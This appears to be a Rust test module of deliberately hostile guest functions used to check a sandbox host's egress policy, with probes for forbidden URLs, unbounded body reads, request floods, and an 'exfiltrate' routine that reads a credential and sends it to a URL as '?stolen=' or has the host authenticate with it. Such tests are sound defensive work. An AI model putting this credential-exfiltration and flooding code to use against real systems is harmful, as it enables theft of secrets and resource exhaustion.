//! Attacks on the egress policy.

use sluice_guest::http::Request;
use sluice_guest::{DeliveryOutcome, credentials, log};

/// GETs `url`, which the host should refuse: failed with the host's error
/// when it does, delivered with `reached <url>: HTTP <status>` when not.
pub fn probe(url: &str) -> DeliveryOutcome {
    match Request::get(url).send() {
        Ok(response) => {
            let status = response.status.to_string();
            log::warn(
                "hostile guest reached its target",
                &[("url", url), ("status", &status)],
            );
            DeliveryOutcome::delivered(Some(format!("reached {url}: HTTP {status}")))
        }
        Err(error) => {
            let error = error.to_string();
            log::info("hostile request failed", &[("url", url), ("error", &error)]);
            DeliveryOutcome::failed(format!("GET {url} failed: {error}"))
        }
    }
}

/// GETs `url` and reads the whole body without keeping it, so that only the
/// host's response cap can stop it.
pub fn read_everything(url: &str) -> DeliveryOutcome {
    let mut read: u64 = 0;
    let result = Request::get(url).send_streaming().and_then(|mut response| {
        while let Some(chunk) = response.body.next_chunk()? {
            read += chunk.len() as u64;
        }
        Ok(())
    });
    match result {
        Ok(()) => DeliveryOutcome::delivered(Some(format!("read {read} bytes"))),
        Err(error) => {
            DeliveryOutcome::failed(format!("GET {url} failed after {read} bytes: {error}"))
        }
    }
}

/// GETs `url` `count` times, stopping at the first failure.
pub fn send_many(url: &str, count: u32) -> DeliveryOutcome {
    for sent in 0..count {
        if let Err(error) = Request::get(url).send() {
            return DeliveryOutcome::failed(format!(
                "request {} of {count} failed after {sent} succeeded: {error}",
                sent + 1
            ));
        }
    }
    DeliveryOutcome::delivered(Some(format!("sent {count} requests")))
}

/// Reads credential `key` to send it to `url` in a query string; when the
/// host does not let it read the value, asks the host to authenticate a
/// request to `url` with it instead.
pub fn exfiltrate(key: &str, url: &str) -> DeliveryOutcome {
    if let Some(value) = credentials::get(key) {
        log::warn(
            "hostile guest read a host-applied credential",
            &[("key", key)],
        );
        return probe(&format!("{url}?stolen={value}"));
    }
    match Request::get(url).authenticated(key).send() {
        Ok(response) => DeliveryOutcome::delivered(Some(format!(
            "the host sent {key} to {url}: HTTP {}",
            response.status
        ))),
        Err(error) => DeliveryOutcome::failed(format!("GET {url} with {key} failed: {error}")),
    }
}
